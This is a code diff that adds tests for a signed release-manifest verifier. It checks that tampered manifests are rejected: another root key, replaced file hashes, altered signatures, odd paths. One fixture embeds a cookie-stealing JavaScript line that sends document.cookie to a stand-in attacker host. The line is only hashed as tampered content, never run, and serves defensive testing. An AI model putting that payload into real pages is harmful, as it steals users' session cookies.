@@ -11,6 +11,7 @@ import { generateDeskKeyPair } from '../../src/desk-keys';
 import { concatBytes, fromBase64Url, utf8 } from '../../src/encoding';
 import { withRecordedRandom } from '../../src/internal/deterministic-random';
 import { sealKey } from '../../src/sealed-box';
+import { hashReleaseFile, releaseBuildId } from '../../src/release';
 import { encryptSigned } from '../../src/signed-payload';
 import { lib } from '../../src/sodium';
 import { wrapVaultKey } from '../../src/vault';
@@ -251,6 +252,25 @@ export async function buildRejectVectors(vectors: readonly Vector[]): Promise<Ve
   await checkpointCase('short-signature', 'a 63-byte signature', { checkpoint: { ...checkpoint, signature: b64(new Uint8Array(63)) }, pinned }, 'bad_length');
   await add('audit-checkpoint-key-prefix', 'audit-checkpoint-key-import', 'a root key export offered as a checkpoint key file', { text: withField(str(acp.expected, 'keyFile'), 0, 'rk1') }, 'bad_prefix');
   await add('audit-checkpoint-key-short', 'audit-checkpoint-key-import', 'a 31-byte seed', { text: `ack1.${b64(new Uint8Array(31))}` }, 'bad_length');
+  // Release manifests (§15)
+  const release = find(vectors, 'release-manifest');
+  const manifest = obj(release.expected, 'manifest');
+  const releaseArgs = { manifest, rootSignPk: str(release.expected, 'rootSignPk') };
+  const releaseFiles = obj(manifest, 'files') as Readonly<Record<string, string>>;
+  const evil = { ...releaseFiles, '/assets/index-a1b2c3.js': hashReleaseFile(utf8('fetch("https://attacker.example/" + document.cookie);\n')) };
+  await add('release-control', 'release-verify', 'the published manifest verifies (control)', releaseArgs, 'none');
+  await add('release-other-root', 'release-verify', 'verified against another root key', { ...releaseArgs, rootSignPk: b64(rootFrom(seedsFor('attacker')).signPk) }, 'wrong_key');
+  await add('release-changed-file', 'release-verify', 'a file hash replaced, build id left', { ...releaseArgs, manifest: { ...manifest, files: evil } }, 'bad_encoding');
+  await add('release-changed-file-new-id', 'release-verify', 'a file hash replaced and the build id recomputed', { ...releaseArgs, manifest: { ...manifest, files: evil, buildId: releaseBuildId(evil) } }, 'bad_signature');
+  await add('release-later-date', 'release-verify', 'issuedAt moved after signing', { ...releaseArgs, manifest: { ...manifest, issuedAt: '2031-01-01T00:00:00Z' } }, 'bad_signature');
+  await add('release-flip-signature', 'release-verify', 'signature altered', { ...releaseArgs, manifest: { ...manifest, signature: flipB64(str(manifest, 'signature'), 5) } }, 'bad_signature');
+  await add('release-v2', 'release-verify', 'unknown manifest version', { ...releaseArgs, manifest: { ...manifest, v: 2 } }, 'bad_prefix');
+  await add('release-extra-member', 'release-verify', 'an unknown member', { ...releaseArgs, manifest: { ...manifest, label: 'x' } }, 'bad_encoding');
+  const dotted = { ...releaseFiles, '/.well-known/x.js': hashReleaseFile(utf8('x')) };
+  await add('release-dot-path', 'release-verify', 'a path with a segment that starts with a dot', { ...releaseArgs, manifest: { ...manifest, files: dotted, buildId: releaseBuildId(dotted) } }, 'bad_encoding');
+  const noWorker = Object.fromEntries(Object.entries(releaseFiles).filter(([path]) => path !== '/sw.js'));
+  await add('release-no-service-worker', 'release-verify', 'a list without /sw.js', { ...releaseArgs, manifest: { ...manifest, files: noWorker, buildId: releaseBuildId(noWorker) } }, 'bad_encoding');
+  await add('release-short-signature', 'release-verify', 'a 63-byte signature', { ...releaseArgs, manifest: { ...manifest, signature: b64(new Uint8Array(63)) } }, 'bad_length');
   // SPEC.md §9.1-§9.3 (build-case-key-vectors.ts).
   await caseKeyRejects([...vectors, ...out], add);
   return out;
